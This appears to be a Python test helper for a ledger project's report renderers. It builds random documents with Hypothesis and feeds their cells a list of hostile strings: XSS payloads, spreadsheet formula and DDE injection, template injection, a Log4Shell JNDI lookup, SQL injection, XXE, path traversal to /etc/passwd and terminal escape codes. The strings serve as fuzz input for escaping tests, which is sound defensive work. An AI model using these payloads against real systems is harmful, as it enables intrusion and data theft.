"""Documents at random, for tests of renderers: any texts, amounts, dates and shares, in any order."""

from __future__ import annotations

import json
from datetime import date, timedelta
from fractions import Fraction
from importlib.resources import files

from hypothesis import strategies as st

from mdfm_ledger.money import MAX_MINOR, Amount
from mdfm_ledger.plans import Names
from mdfm_ledger.reports.document import (
    Block,
    Cell,
    Column,
    ColumnKind,
    Document,
    Fact,
    Facts,
    MoneyByState,
    Note,
    Row,
    RowLevel,
    Section,
    Table,
    TargetCurve,
    Text,
    text,
)

ENGLISH: dict[str, str] = json.loads(
    (files("mdfm_ledger.render") / "locales" / "en.json").read_text(encoding="utf-8")
)

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><style>*{display:none}",
    "</svg></title></desc>",
    "]]> & &amp; <!-- -->",
    "{{ 7 * 7 }} {% raw %} {title}",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "'=1+1",
    "'s-Hertogenbosch",
    " =1+1",
    "\t=1+1",
    "\uff1d1+1",
    "javascript:alert(1)",
    "\x1b[2J\x1b]0;title\x07",
    "\u202egnihtemos",
    "two\nlines\rand\r\nmore",
    'a,b;"c"',
    "東京都",
    "مدينة",
    "Me\u0301dellin",
    "\x00\ufffe",
    "<svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe src=//example.org></iframe>",
    "<base href=//example.org/>",
    "<meta http-equiv=refresh content=0>",
    "<!doctype html><body>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///x'>]>",
    "</td></tr></table><form action=//example.org>",
    "' onmouseover='alert(1)",
    "` onfocus=`alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\\u003cscript\\u003e",
    "%3Cscript%3E",
    "url(//example.org/x.png)",
    "expression(alert(1))",
    "{{ config }}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__mro__ %}",
    "${jndi:ldap://example.org/x}",
    "%s%s%n%n",
    "{0.__class__}",
    '=HYPERLINK("//example.org","x")',
    '=IMPORTXML("//example.org","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "@import '//example.org/x.css'",
    "-1+cmd|' /C calc'!A0",
    "\n=1+1",
    "\r=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "'; DROP TABLE entry; --",
    '" OR "" = "',
    "../../../etc/passwd",
    "CON",
    "\x1b]8;;//example.org\x07x\x1b]8;;\x07",
    "\u2066x\u2069\u202d",
)
"""Names nobody should have, and some that somebody has."""


def keys(group: str) -> list[str]:
    """The keys of a group of the catalogue, without the name of the group."""
    return [key.removeprefix(f"{group}.") for key in ENGLISH if key.startswith(f"{group}.")]


texts = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30))
amounts = st.builds(
    Amount, st.integers(-MAX_MINOR, MAX_MINOR), st.sampled_from(["USD", "EUR", "JPY", "KWD", "AFN"])
)
dates = st.dates(min_value=date(1900, 1, 1), max_value=date(2200, 12, 31))
shares = st.fractions(min_value=Fraction(-3), max_value=Fraction(3), max_denominator=10**6)
catalogue_texts: st.SearchStrategy[Text] = st.one_of(
    st.builds(Text, st.sampled_from(["total", "basis", "status.signed", "account.1010"])),
    st.builds(lambda name: text("title.donor_statement", donor=name), texts),
)
words: st.SearchStrategy[Cell] = st.one_of(
    st.none(), texts, st.integers(), catalogue_texts, st.builds(Names, en=st.just("Name"), fr=st.just("Nom"))
)
_CELLS: dict[ColumnKind, st.SearchStrategy[Cell]] = {
    ColumnKind.TEXT: words,
    ColumnKind.CODE: words,
    ColumnKind.DIGEST: words,
    ColumnKind.NUMBER: st.one_of(st.none(), st.integers()),
    ColumnKind.DATE: st.one_of(st.none(), dates, texts),
    ColumnKind.AMOUNT: st.one_of(st.none(), amounts, texts),
    ColumnKind.SHARE: st.one_of(st.none(), shares),
}


@st.composite
def tables(draw: st.DrawFn, key: str = "fund") -> Table:
    """A table of up to eight columns and six rows."""
    names = draw(st.lists(st.sampled_from(keys("column")), min_size=1, max_size=8, unique=True))
    columns = tuple(
        Column(
            key=name,
            kind=draw(st.sampled_from(ColumnKind)),
            only_in_files=at > 0 and draw(st.booleans()),
        )
        for at, name in enumerate(names)
    )
    rows = st.builds(
        Row,
        cells=st.tuples(*(_CELLS[column.kind] for column in columns)),
        level=st.sampled_from(RowLevel),
        under=st.one_of(st.none(), catalogue_texts),
    )
    return Table(
        key=key,
        columns=columns,
        rows=tuple(draw(st.lists(rows, max_size=6))),
        note=draw(st.one_of(st.none(), catalogue_texts)),
    )


@st.composite
def curves(draw: st.DrawFn) -> TargetCurve:
    """A curve over a day to twenty years; sums may fall, and days lie outside the term."""
    starts_on = draw(dates)
    length = draw(st.integers(0, 7300))
    currency = draw(st.sampled_from(["USD", "JPY", "KWD"]))
    days = sorted(draw(st.sets(st.integers(-400, length + 400), max_size=12)))
    sums = st.builds(Amount, st.integers(-MAX_MINOR, MAX_MINOR), st.just(currency))
    return TargetCurve(
        starts_on=starts_on,
        ends_on=starts_on + timedelta(days=length),
        as_of=starts_on + timedelta(days=max([*days, draw(st.integers(-400, length + 400))])),
        target=Amount(draw(st.integers(0, MAX_MINOR)), currency),
        received=tuple((starts_on + timedelta(days=day), draw(sums)) for day in days),
    )


@st.composite
def states(draw: st.DrawFn) -> MoneyByState:
    """Up to eight states, some below zero, some nothing."""
    minor = st.one_of(st.integers(-MAX_MINOR, MAX_MINOR), st.integers(-3, 3))
    parts = draw(st.lists(st.tuples(st.sampled_from(keys("state")), minor), min_size=1, max_size=8))
    return MoneyByState(parts=tuple((key, Amount(amount, "USD")) for key, amount in parts))


@st.composite
def documents(draw: st.DrawFn) -> Document:
    """A document of up to three sections with blocks of every sort."""
    facts = st.builds(
        Facts,
        key=st.just("head"),
        items=st.lists(
            st.builds(
                Fact, key=st.sampled_from(keys("fact")), value=st.one_of(words, amounts, dates, shares)
            ),
            max_size=5,
        ).map(tuple),
    )
    notes = st.builds(Note, text=catalogue_texts)
    table_keys = draw(st.lists(st.sampled_from(keys("table")), unique=True, max_size=3))
    blocks: list[Block] = [draw(tables(key)) for key in table_keys]
    blocks += draw(st.lists(st.one_of(facts, notes, curves(), states()), max_size=4))
    order = draw(st.permutations(blocks))
    cut = draw(st.integers(0, len(order)))
    return Document(
        name="sample",
        title=draw(catalogue_texts),
        subtitle=draw(st.one_of(st.none(), catalogue_texts)),
        sections=(
            Section(key="head", blocks=tuple(order[:cut])),
            Section(key="fund", blocks=tuple(order[cut:])),
        ),
    )


def cells_of(document: Document) -> list[Cell]:
    """Every cell and every value of a document that a page shows, wherever it stands."""
    found: list[Cell] = [document.title, document.subtitle]
    for section in document.sections:
        for block in section.blocks:
            if isinstance(block, Table):
                for row in block.rows:
                    cells = zip(row.cells, block.columns, strict=True)
                    found += [cell for cell, column in cells if not column.only_in_files]
                    found.append(row.under)
                found.append(block.note)
            elif isinstance(block, Facts):
                found += [fact.value for fact in block.items]
            elif isinstance(block, Note):
                found.append(block.text)
            elif isinstance(block, MoneyByState):
                found += [amount for _, amount in block.parts]
            else:
                found += [block.latest, block.target, block.as_of]
    return found
